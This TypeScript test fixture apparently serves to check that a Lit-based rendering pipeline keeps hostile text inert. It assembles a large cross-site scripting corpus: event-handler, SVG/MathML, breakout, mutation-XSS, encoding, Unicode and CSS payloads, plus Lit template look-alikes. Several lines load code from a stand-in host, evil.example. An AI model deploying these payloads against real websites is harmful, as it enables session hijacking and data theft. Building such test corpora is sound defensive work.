/**
 * Hostile strings for text fields. Every payload that would run calls `__pwned()` (or
 * alert/confirm/prompt/print, which the tests replace with spies), so "nothing ran" is
 * one assertion. Each entry is non-empty after trim, so the pipeline keeps it as text.
 *
 * Sources: the OWASP XSS filter evasion cheat sheet, PortSwigger's XSS cheat sheet,
 * DOMPurify's mutation-XSS test cases, and Lit's own template markers.
 */

/** Tags and the event each fires on its own (no user action needed) or on interaction. */
const HANDLERS: [string, string][] = [
  ['img src=x', 'onerror'],
  ['img src=/rk-404.png', 'onload'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['iframe', 'onload'],
  ['iframe src=javascript:void(0)', 'onload'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['keygen autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['video><source', 'onerror'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onerror'],
  ['style', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['marquee', 'onstart'],
  ['a href=# autofocus', 'onfocus'],
  ['div tabindex=0 autofocus', 'onfocusin'],
  ['div', 'onmouseover'],
  ['button', 'onclick'],
  ['form><button', 'onfocus'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x to=1', 'onbegin'],
  ['image src=x', 'onerror'],
  ['frameset', 'onload'],
  ['input type=image src=x', 'onerror'],
  ['isindex type=image src=x', 'onerror'],
  ['xss contenteditable', 'onfocus'],
  ['dialog open', 'onclose'],
  ['div style="animation-name:rk"', 'onanimationstart'],
  ['div style="transition:color 1s"', 'ontransitionend'],
];

/** `<tag handler=…>` in four spellings each: plain, quoted, slash-separated, upper case. */
const handlerPayloads = HANDLERS.flatMap(([tag, event], i) => [
  `<${tag} ${event}=__pwned(${i})>`,
  `<${tag} ${event}="__pwned('${i}q')">x</${tag.split(/[\s>]/)[0]}>`,
  `<${tag.replace(/ /g, '/')}/${event}=__pwned(${i})//`,
  `<${tag.toUpperCase()} ${event.toUpperCase()}=__pwned(${i})>`,
]);

const scripts = [
  '<script>__pwned(1)</script>',
  '<SCRIPT>__pwned(2)</SCRIPT>',
  '<script src=/rk-evil.js></script>',
  '<script src=//evil.example/x.js></script>',
  '<script/src=data:,__pwned(3)></script>',
  '<script type=module>__pwned(4)</script>',
  '<ScRiPt>__pwned(5)</sCrIpT>',
  '<script\x20type="text/javascript">__pwned(6);</script>',
  '<<script>__pwned(7)//<</script>',
  '<script>alert(document.domain)</script>',
  '<script>confirm(1)</script>',
  '<script>prompt(1)</script>',
  '<script>print()</script>',
  '<scr<script>ipt>__pwned(8)</scr</script>ipt>',
  '<script\x00>__pwned(9)</script>',
  '<script>/*</script><script>*/__pwned(10)</script>',
  '<script>eval(atob("X19wd25lZCgxMSk="))</script>',
  '<script>setTimeout("__pwned(12)")</script>',
  '<script>new Function("__pwned(13)")()</script>',
  '<script>window["__pw"+"ned"](14)</script>',
];

const svgMath = [
  '<svg><script>__pwned(20)</script></svg>',
  '<svg><script href=data:,__pwned(21) />',
  '<svg><a xlink:href="javascript:__pwned(22)"><text x=20 y=20>click</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=__pwned(23) /></svg>#x" />',
  '<svg><foreignObject><iframe srcdoc="<script>parent.__pwned(24)</script>"></iframe></foreignObject></svg>',
  '<svg><style>@import "javascript:__pwned(25)";</style></svg>',
  '<svg><title><img src=x onerror=__pwned(26)></title></svg>',
  '<svg><desc><![CDATA[</desc><script>__pwned(27)</script>]]></svg>',
  '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">__pwned(28)</handler></svg>',
  '<svg><discard onbegin=__pwned(29) />',
  '<math><maction actiontype="statusline#" xlink:href="javascript:__pwned(30)">x</maction></math>',
  '<math href="javascript:__pwned(31)">CLICK</math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=__pwned(32)>',
  '<math><mi xlink:href="data:x,<script>__pwned(33)</script>">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=__pwned(34)></annotation-xml></math>',
  '<svg><image href=x onerror=__pwned(35) />',
  '<svg/onload=__pwned(36)>',
  '<svg><animate xlink:href=#x attributeName=href values=javascript:__pwned(37) /><a id=x><text>x</text></a>',
];

const breakouts = [
  '"><img src=x onerror=__pwned(40)>',
  "'><img src=x onerror=__pwned(41)>",
  '" onmouseover="__pwned(42)',
  "' onfocus='__pwned(43)' autofocus='",
  '` onload=__pwned(44) `',
  '" autofocus onfocus="__pwned(45)" x="',
  '"/><script>__pwned(46)</script>',
  'x" style="background:url(javascript:__pwned(47))',
  '"><svg/onload=__pwned(48)>',
  "';__pwned(49);//",
  '";__pwned(50);//',
  '\\";__pwned(51);//',
  '</title><script>__pwned(52)</script>',
  '</textarea><script>__pwned(53)</script>',
  '</style><script>__pwned(54)</script>',
  '</noscript><img src=x onerror=__pwned(55)>',
  '--><img src=x onerror=__pwned(56)>',
  ']]><img src=x onerror=__pwned(57)>',
  '" src=x onerror="__pwned(58)',
  '" href="javascript:__pwned(59)',
  '" part="x" slot="y" id="t',
  'x"><slot name=x></slot><x y="',
  '"><base href="//evil.example/">',
  '"><meta http-equiv="refresh" content="0;url=javascript:__pwned(60)">',
  '"><link rel=import href=//evil.example/x.html>',
];

/** Ways out of a <script type="application/json"> or ld+json block. */
const scriptEnd = [
  '</script><script>__pwned(70)</script>',
  '</SCRIPT><img src=x onerror=__pwned(71)>',
  '</script ><img src=x onerror=__pwned(72)>',
  '</script\t\n><img src=x onerror=__pwned(73)>',
  '</script/x><img src=x onerror=__pwned(74)>',
  '<!--<script>',
  '<!--<script></script><img src=x onerror=__pwned(75)>-->',
  '<\\/script><img src=x onerror=__pwned(76)>',
  '\\u003c/script\\u003e\\u003cimg src=x onerror=__pwned(77)\\u003e',
  '"}</script><script>__pwned(78)</script>',
];

/** Look-alikes of Lit's own markers and of other template languages. */
const templates = [
  '<?lit$123456789$>',
  'lit$123456789$',
  '<!--?lit$123456789$-->',
  '$lit$',
  '?lit$',
  '<x lit$123456789$=y>',
  '<!---->',
  '<!--?-->',
  '_$litType$',
  '{"_$litType$":1,"strings":["<img src=x onerror=__pwned(80)>"],"values":[]}',
  '${__pwned(81)}',
  '{{constructor.constructor("__pwned(82)")()}}',
  '{{7*7}}',
  '#{__pwned(83)}',
  '<%= __pwned(84) %>',
  '[[${__pwned(85)}]]',
  '{name}',
  '{n} more {value} {best}',
  '${"<img src=x onerror=__pwned(86)>"}',
  '<template><img src=x onerror=__pwned(87)></template>',
  '<template shadowrootmode="open"><img src=x onerror=__pwned(88)></template>',
  '{{$on.constructor("__pwned(89)")()}}',
  '@click=${__pwned}',
  '.innerHTML=${"<img src=x onerror=__pwned(90)>"}',
];

/** Mutation XSS: markup that changes meaning when parsed twice (DOMPurify's cases). */
const mutation = [
  '<noscript><p title="</noscript><img src=x onerror=__pwned(100)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=__pwned(101)>">',
  '<math><mi><table><mi><mglyph><style><img src=x onerror=__pwned(102)>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=__pwned(103)>',
  '<listing>&lt;img src=x onerror=__pwned(104)&gt;</listing>',
  '<xmp><img src=x onerror=__pwned(105)></xmp>',
  '<textarea><img src=x onerror=__pwned(106)></textarea>',
  '<title><img src=x onerror=__pwned(107)></title>',
  '<iframe><img src=x onerror=__pwned(108)></iframe>',
  '<noembed><img title="</noembed><img src=x onerror=__pwned(109)>">',
  '<style><img src=x onerror=__pwned(110)></style>',
  '<a title="a<img src=x onerror=__pwned(111)>">x</a>',
  '<svg><p><style><img src=x onerror=__pwned(112)></p></style></svg>',
  '<table><img src=x onerror=__pwned(113)><td>',
  '<select><template><img src=x onerror=__pwned(114)></template></select>',
  '<plaintext><img src=x onerror=__pwned(115)>',
  '<object data="data:text/html,<script>parent.__pwned(116)</script>">',
  '<img src="x` `<script>__pwned(117)</script>"` `>',
  '<img """><script>__pwned(118)</script>">',
  '<div id="x"></div><img src=x onerror="document.getElementById(\'x\').innerHTML=\'<img src=x onerror=__pwned(119)>\'">',
];

const urlsAsText = [
  'javascript:__pwned(130)',
  'JaVaScRiPt:__pwned(131)',
  'java\tscript:__pwned(132)',
  'data:text/html,<script>__pwned(133)</script>',
  'data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKDEzNCk8L3NjcmlwdD4=',
  'vbscript:msgbox(1)',
  '//evil.example/x.js',
  'https://evil.example/"><img src=x onerror=__pwned(135)>',
];

const encoded = [
  '&lt;script&gt;__pwned(140)&lt;/script&gt;',
  '&#60;img src=x onerror=__pwned(141)&#62;',
  '&#x3C;img src=x onerror=__pwned(142)&#x3E;',
  '&#0000060;img src=x onerror=__pwned(143)&#0000062;',
  '%3Cscript%3E__pwned(144)%3C%2Fscript%3E',
  '\\x3cscript\\x3e__pwned(145)\\x3c/script\\x3e',
  '+ADw-script+AD4-__pwned(146)+ADw-/script+AD4-',
  '&amp;lt;script&amp;gt;',
  '&quot; onmouseover=&quot;__pwned(147)',
  '&apos;&gt;&lt;svg onload=__pwned(148)&gt;',
  '&NewLine;&Tab;<img src=x onerror=__pwned(149)>',
  'AT&T <b>bold</b> & "quotes" \'apos\'',
  '<b>bold</b> <i>italic</i> <u>under</u>',
  '<a href="https://example.com">a link</a>',
  '<br><hr><p>paragraph</p>',
];

const unicode = [
  '\u202eevil\u202c <img src=x onerror=__pwned(150)>',
  '\u200b<\u200bscript>__pwned(151)</script>',
  '\ufeff<script>__pwned(152)</script>',
  '＜script＞__pwned(153)＜/script＞',
  '\u2028<img src=x onerror=__pwned(154)>\u2029',
  '<scr\u0000ipt>__pwned(155)</scr\u0000ipt>',
  'Ｊａｖａｓｃｒｉｐｔ:__pwned(156)',
  '𝓐𝓽𝓸𝓶𝓲𝓬 🎬💣 <img src=x onerror=__pwned(157)>',
  'Z̴̡̛͎a̸̧̛l̵g̷o̶ <svg onload=__pwned(158)>',
  'لورين <img src=x onerror=__pwned(159)> ברוטון',
  '\ud83c<img src=x onerror=__pwned(160)>\udfac',
  '\u0000\u0001\u0002<script>__pwned(161)</script>',
  '\u001b[31m<img src=x onerror=__pwned(162)>\u001b[0m',
  'ı̇<İMG SRC=x ONERROR=__pwned(163)>',
  '\u00a0<img\u00a0src=x\u00a0onerror=__pwned(164)>\u00a0',
];

const css = [
  '</style><img src=x onerror=__pwned(170)>',
  'x;background:url(javascript:__pwned(171))',
  'expression(__pwned(172))',
  "@import 'javascript:__pwned(173)';",
  '}</style><img src=x onerror=__pwned(174)>{',
  'red;}</style><script>__pwned(175)</script>',
  '-moz-binding:url(//evil.example/x.xml#x)',
  'behavior:url(//evil.example/x.htc)',
  '16/9;}:host{background:url(//evil.example/x.png)',
  'var(--x);--y:url(javascript:__pwned(176))',
];

const misc = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '{"__proto__":{"polluted":1}}',
  '<form name=attributes><input name=innerHTML></form>',
  '<img name=getElementById><img id=defaultView>',
  '<a id=__pwned href=x>clobber</a>',
  '<iframe name=top></iframe>',
  '<a id=location href=javascript:__pwned(180)>',
  '"}]}',
  'null',
  'undefined',
  '0',
  '-1',
  'NaN',
  'true',
  '[object Object]',
  ' \t\n  surrounded by whitespace <script>__pwned(181)</script> \n\t ',
  'a'.repeat(300) + '<img src=x onerror=__pwned(182)>',
  '<img src=x onerror=__pwned(183)>'.repeat(20),
  'x'.repeat(6000),
  '<!DOCTYPE html><html><body onload=__pwned(184)>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">__pwned(185)</x:script>',
];

export const XSS_CORPUS: readonly string[] = [
  ...scripts,
  ...handlerPayloads,
  ...svgMath,
  ...breakouts,
  ...scriptEnd,
  ...templates,
  ...mutation,
  ...urlsAsText,
  ...encoded,
  ...unicode,
  ...css,
  ...misc,
];

/**
 * Objects shaped like a Lit TemplateResult (what `html\`…\`` returns). Lit renders such a
 * value as markup if it reaches a text binding, so the pipeline must refuse objects where
 * text is expected. JSON can express them, so they arrive through every input path.
 */
export const TEMPLATE_LOOKALIKES: readonly unknown[] = [
  { _$litType$: 1, strings: ['<img src=x onerror=__pwned(190)>'], values: [] },
  { _$litType$: 2, strings: ['<script>__pwned(191)</script>'], values: [] },
  { _$litType$: { h: ['<img src=x onerror=__pwned(192)>'], el: null }, values: [] },
  { nodeType: 1, nodeName: 'IMG', outerHTML: '<img src=x onerror=__pwned(193)>' },
  ['<img src=x onerror=__pwned(194)>', { _$litType$: 1, strings: ['<b>x</b>'], values: [] }],
  { _$litDirective$: 'unsafeHTML', values: ['<img src=x onerror=__pwned(195)>'] },
  { toString: '<img src=x onerror=__pwned(196)>', valueOf: 1 },
];
